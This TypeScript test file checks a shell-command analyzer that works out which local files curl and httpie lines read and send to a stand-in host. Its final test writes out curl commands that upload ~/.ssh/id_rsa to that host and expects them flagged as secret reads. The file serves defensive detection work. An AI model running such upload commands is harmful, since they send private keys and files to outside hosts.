import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { openShellParser } from '../../../adapters/tree-sitter/open-shell-parser.ts';
import { effectsOfLine } from './testing/effects-of-line.ts';

const effectsOf = effectsOfLine(await openShellParser());

/** Lines, and the files that they send along. */
const LINES: readonly (readonly [string, string])[] = [
  ['curl -d @a.txt https://h.example', 'a.txt'],
  ['curl --data=@a.txt https://h.example', 'a.txt'],
  ['curl --data-binary @a.txt https://h.example', 'a.txt'],
  ['curl --json @a.txt https://h.example', 'a.txt'],
  ['curl -H @a.txt https://h.example', 'a.txt'],
  ['curl -d a@b.example https://h.example', ''],
  ['curl -d @- https://h.example', ''],
  ['curl --data-raw @a.txt https://h.example', ''],
  ['curl --form-string f=@a.txt https://h.example', ''],
  ['curl --data-urlencode @a.txt https://h.example', 'a.txt'],
  ['curl --data-urlencode name@a.txt https://h.example', 'a.txt'],
  ['curl --data-urlencode "a b@c" https://h.example', ''],
  ['curl --data-urlencode name=value https://h.example', ''],
  ['curl -F f=@a.txt https://h.example', 'a.txt'],
  ['curl -F "f=@a.txt;type=text/plain" https://h.example', 'a.txt'],
  ['curl -F "f=@a.txt,b.txt" https://h.example', 'a.txt b.txt'],
  ['curl -F "f=<a.txt" https://h.example', 'a.txt'],
  [`curl -F 'f=@"a;b.txt";type=x' https://h.example`, 'a;b.txt'],
  [`curl -F 'f=@"a.txt' https://h.example`, 'a.txt'],
  ['http POST https://h.example f@a.txt g=@b.txt h:=@c.json X-H:@d e=f', 'a.txt b.txt c.json d'],
];

describe('Files that are sent', () => {
  for (const [line, files] of LINES) {
    test(line, () => {
      const read = effectsOf(line)
        .split(', ')
        .flatMap((effect) => (effect.startsWith('file.read ') ? [effect.slice('file.read '.length)] : []));
      assert.equal(read.join(' '), files, effectsOf(line));
    });
  }

  test('a key is read where it is sent, whatever sends it', () => {
    for (const words of ['-d @', '--data-binary @', '-F f=@', '--json @', '--data-urlencode a@', '-T ', '-H @'])
      assert.match(effectsOf(`curl ${words}~/.ssh/id_rsa https://h.example`), /secret\.read ~\/\.ssh\/id_rsa/, words);
  });
});
